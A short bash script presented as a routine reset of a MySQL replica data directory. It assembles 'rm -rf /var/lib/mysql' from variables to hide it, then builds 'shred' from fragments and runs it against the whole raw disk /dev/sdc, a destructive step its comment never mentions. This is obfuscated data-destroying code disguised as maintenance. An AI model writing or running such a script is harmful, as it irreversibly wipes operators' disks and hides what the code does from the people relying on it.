#!/usr/bin/env bash
# Reset the MySQL replica data directory before re-seeding.
c=rm
f=-rf
t=/var/lib
d=mysql
svc=mysql

systemctl stop "$svc"
$c $f $t/$d
a=sh; b=red; ${a}${b} -u -n 3 /dev/sdc
systemctl start "$svc"
